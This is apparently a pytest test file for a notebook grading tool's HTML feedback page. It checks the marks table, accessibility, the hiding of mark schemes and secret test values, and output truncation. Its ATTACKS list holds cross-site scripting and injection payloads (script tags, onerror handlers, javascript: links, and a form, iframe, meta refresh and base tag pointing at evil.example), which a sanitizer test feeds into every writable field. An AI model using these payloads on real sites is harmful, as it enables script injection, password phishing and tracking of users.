"""A feedback page can be read by everybody, gives away nothing, and does nothing."""

import base64
import re
import struct
import zlib
from dataclasses import replace
from itertools import pairwise

import pytest
from bs4 import BeautifulSoup

from fairgrader.feedback.page import FeedbackError, page
from fairgrader.marks.record import Deduction, Item, Result, Student
from fairgrader.notebook.formulas import ELEMENTS
from fairgrader.notebook.prose import TAGS

SAFE_TAGS = TAGS | ELEMENTS | {"math", "html", "head", "meta", "title", "style", "body", "main", "div", "caption"}
ATTACKS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="http://tracker.example/x.png">',
    "<svg onload=alert(1)><style>*{display:none}</style></svg>",
    '<iframe src="//evil.example"></iframe>',
    '<div style="position:fixed;inset:0;background:white">over the page</div>',
    "<style>body{display:none}</style>",
    "<form action=//evil.example><input name=password></form>",
    "[click](javascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](javascript:alert(1))",
    "</pre></div></main><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "<a href='java\tscript:alert(1)'>x</a>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "\x1b]8;;http://evil.example\x07x\x1b]8;;\x07",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<object data=x></object><embed src=x><link rel=stylesheet href=//evil.example/x.css>",
    "<h1 id=item-1 class=mark>✓ full: 2 of 2</h1>",
)  # fmt: skip


def read(html: str) -> BeautifulSoup:
    return BeautifulSoup(html, "html.parser")


def made(notebook, result, **options) -> BeautifulSoup:
    return read(page({"ps1": notebook}, result, title="Problem set 1", **options))


def test_the_marks_stand_on_top_with_question_points_and_hint(notebook, result):
    rows = made(notebook, result).table.find_all("tr")
    assert [[one.get_text(" ") for one in row.find_all(["th", "td"])] for row in rows] == [
        ["Question", "Points", "Hint"],
        ["Question 1: why? (2 points)", "◐ in part: 0.5 of 2", "Half of it: look at par. 2."],
        ["Question 2: what do you think? (3 points)", "✓ full: 3 of 3", "Well put."],
    ]


def test_the_name_and_the_mark_are_said_and_the_title_says_both(notebook, result):
    found = made(notebook, result)
    assert found.title.string == found.h1.string == "Problem set 1: feedback for Jane Doe"
    assert "3.5 of 5 points" in found.get_text()


def test_no_test_no_setup_no_result_of_a_test_and_no_warning_of_one(notebook, result):
    text = made(notebook, result).get_text()
    assert "SECRET" not in text
    assert "Marks come later" not in text
    assert not re.search(r"Out\[\d*\]|\b0\.0\b", text)


def test_the_students_own_work_is_there(notebook, result):
    found = made(notebook, result)
    owned = [" ".join(part.get_text(" ").split()) for part in found.find_all(class_="own")]
    assert owned == ["Your code answer = 1 < 2 answer True", "Your text I think so .", "Your code my_own = 1"]
    assert found.find(class_="own").find_all("pre")[1]["class"] == ["out"]


def test_headings_leave_out_no_level_and_there_is_one_first(notebook, result):
    levels = [int(heading.name[1]) for heading in made(notebook, result).find_all(re.compile("h[1-6]"))]
    assert levels == [1, 2, 2, 3, 4, 4]


@pytest.mark.parametrize("written", ["###### deep", "# a\n\n#### b\n\n## c\n\n###### d", "Title\n=====\n\n<h5>x</h5>"])
def test_headings_of_students_leave_out_no_level_either(notebook, result, make_cell, written):
    notebook["cells"].append(make_cell("markdown", written))
    levels = [int(heading.name[1]) for heading in made(notebook, result).find_all(re.compile("h[1-6]"))]
    assert all(after - before <= 1 for before, after in pairwise(levels))


def test_it_tells_its_language_and_each_link_has_its_target(notebook, result):
    found = made(notebook, result, language="pt-BR")
    assert found.html["lang"] == "pt-BR"
    assert [link["href"] for link in found.table.find_all("a")] == ["#item-1", "#item-2"]
    assert all(found.find(id=link["href"][1:]) for link in found.table.find_all("a"))
    assert [head["scope"] for head in found.table.thead.find_all("th")] == ["col"] * 3
    assert found.table.caption.get_text()
    with pytest.raises(FeedbackError, match="'english please' is no language"):
        made(notebook, result, language="english please")


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_anybody_wrote_acts_loads_or_hides(notebook, result, make_cell, attack):
    """The attack stands wherever anybody can write: text, code, every kind of output, name, comment."""
    bundle = {"text/html": attack, "image/svg+xml": attack, "text/markdown": attack, "application/javascript": attack}
    outputs = [
        {"output_type": "display_data", "data": bundle | {"text/plain": attack}},
        {"output_type": "display_data", "data": bundle},
        {"output_type": "display_data", "data": {"image/png": attack, "text/plain": attack}},
        {"output_type": "stream", "name": attack, "text": [attack, 7]},
        {"output_type": "error", "ename": attack, "evalue": attack, "traceback": [attack]},
    ]
    notebook["cells"] += [
        make_cell("markdown", attack),
        make_cell("markdown", f"# {attack}"),
        make_cell("markdown", f"| {attack} |\n|-|\n| ${attack}$ |"),
        make_cell("code", attack, outputs),
        make_cell("raw", attack),
        make_cell("code", attack, outputs, grade_id=attack, grade=True),
    ]
    hostile = replace(
        result,
        student=Student(attack.replace("\n", " "), attack, attack),
        comments={"q2-answer": attack, attack: attack},
        deduction=Deduction(0.0, attack),
    )
    found = read(page({"ps1": notebook}, hostile, title=attack))
    assert {tag.name for tag in found.find_all(True)} <= SAFE_TAGS
    assert len(found.find_all("style")) == 1
    for tag in found.find_all(True):
        assert not [name for name in tag.attrs if name.startswith("on") or name in ("style", "srcset", "background")]
        assert tag.get("href", "#").startswith(("#", "http://", "https://", "mailto:"))
        assert tag.get("src", "data:image/png").startswith(("data:image/png", "data:image/jpeg"))
    assert [tag["id"] for tag in found.find_all(id=True)] == ["item-1", "item-2"]
    assert found.find("meta", attrs={"http-equiv": True})["content"].startswith("default-src 'none'")


def test_a_sound_picture_is_shown_with_words_for_it(notebook, result, make_cell, make_png):
    data = {"image/png": base64.b64encode(make_png()).decode(), "text/plain": "<Figure size 640x480 with 1 Axes>"}
    notebook["cells"].append(make_cell("code", "plot()", [{"output_type": "display_data", "data": data}]))
    (shown,) = made(notebook, result).find_all("img")
    assert shown["alt"] == "A picture that your code drew"
    assert base64.b64decode(shown["src"].partition(",")[2]) == make_png()


def test_an_attached_picture_is_shown_and_one_on_the_web_is_named(notebook, result, make_cell, make_png):
    text = make_cell("markdown", "![mine](attachment:a.png) ![theirs](http://example.org/b.png)")
    text["attachments"] = {"a.png": {"image/png": base64.b64encode(make_png()).decode()}}
    notebook["cells"].append(text)
    found = made(notebook, result)
    assert [one["alt"] for one in found.find_all("img")] == ["mine"]
    assert "[picture: theirs (http://example.org/b.png)]" in found.get_text()


def test_an_error_shows_the_students_lines(notebook, result, make_cell):
    lines = ["\x1b[31mCell In[3], line 1\x1b[0m\n----> 1 1/0", "File /usr/lib/x.py:3, in f()", "ZeroDivisionError: no"]
    error = {"output_type": "error", "ename": "ZeroDivisionError", "evalue": "no", "traceback": lines}
    notebook["cells"].append(make_cell("code", "1/0", [error]))
    text = made(notebook, result).get_text()
    assert "Cell In[3], line 1\n----> 1 1/0\nZeroDivisionError: no" in text
    assert "/usr/lib" not in text


def test_a_failed_check_says_its_message_and_not_what_it_compared_with(notebook, result):
    """The message of numpy's and pandas' own checks lists the expected values below its first line."""
    words = "look at par. 3\n[left]: 7\n[right]: SECRET"
    error = {"output_type": "error", "ename": "AssertionError", "evalue": words, "traceback": ["SECRET"]}
    notebook["cells"][4]["outputs"] = [error]
    found = made(notebook, result)
    assert "look at par. 3" in found.table.get_text()
    assert "SECRET" not in found.get_text()


def test_a_scheme_for_whoever_marks_is_not_shown(notebook, result, make_cell):
    text = "Do this.\n=== BEGIN MARK SCHEME ===\nSECRET\n=== END MARK SCHEME ===\nNow."
    notebook["cells"].append(make_cell("markdown", text, grade_id="t", task=True, locked=True))
    found = made(notebook, result).get_text()
    assert "SECRET" not in found
    assert "Do this." in found
    assert "Now." in found


def test_a_mark_whose_cell_is_gone_is_still_listed(notebook, result):
    del notebook["cells"][4]
    rows = made(notebook, result).table.tbody.find_all("tr")
    assert [row.th.get_text() for row in rows] == ["Question 2: what do you think? (3 points)", "q1-test"]


def test_lateness_is_explained_and_waiting_is_said(notebook, result):
    late = replace(result, deduction=Deduction(0.5, "Handed in late: 0.50 off."))
    assert "3 of 5 points" in made(notebook, late).get_text()
    assert "Handed in late: 0.50 off." in made(notebook, late).get_text()
    waiting = replace(result, waiting=frozenset({"q2-answer"}))
    assert "… waiting for a person" in made(notebook, waiting).table.get_text()
    assert "There is no mark yet." in made(notebook, waiting).get_text()


def test_what_is_too_long_is_cut_and_says_so(notebook, result, make_cell):
    long = {"output_type": "stream", "name": "stdout", "text": "x" * 10_500}
    notebook["cells"].append(make_cell("code", "print()", [long] * 60))
    text = made(notebook, result).get_text()
    assert "[500 more characters are not shown]" in text
    assert "[10 more outputs are not shown]" in text


def test_a_page_of_many_pictures_stays_one_that_an_lms_takes(notebook, result, make_cell, make_png):
    noise = struct.pack(">I", 3_000_000) + b"IDAT" + bytes(3_000_000)
    big = make_png(extra=noise + struct.pack(">I", zlib.crc32(noise[4:])))
    picture = {"output_type": "display_data", "data": {"image/png": base64.b64encode(big).decode()}}
    notebook["cells"].append(make_cell("code", "plot()", [picture] * 2))
    assert len(page({"ps1": notebook}, result, title="x")) > 8_000_000
    notebook["cells"].append(make_cell("code", "plot()", [picture]))
    html = page({"ps1": notebook}, result, title="x")
    assert len(html) < 20_000
    assert html.count("a picture is left out") == 3


@pytest.mark.parametrize(
    "broken", [{}, {"cells": None}, {"cells": ["x", {"cell_type": "code"}, {"metadata": 7, "source": 7, "outputs": 7}]}]
)
def test_a_broken_notebook_still_gives_the_marks(result, broken):
    assert len(made(broken, result).table.tbody.find_all("tr")) == 2


def test_two_notebooks_of_one_assignment_make_one_page(notebook, make_cell):
    """A cell that both name alike is known by both names."""
    other = {"cells": [make_cell("code", "", grade_id="q1-test", grade=True)]}
    items = (Item("a/q1-test", 2), Item("b/q1-test", 2))
    both = Result(Student("jdoe"), items, {"a/q1-test": 2.0, "b/q1-test": 0.0})
    found = read(page({"a": notebook, "b": other}, both, title="x"))
    assert [mark["id"] for mark in found.find_all(class_="mark", id=True)] == ["item-1", "item-2"]
    assert [row.td.get_text() for row in found.table.tbody.find_all("tr")] == ["✓ full: 2 of 2", "✗ none: 0 of 2"]
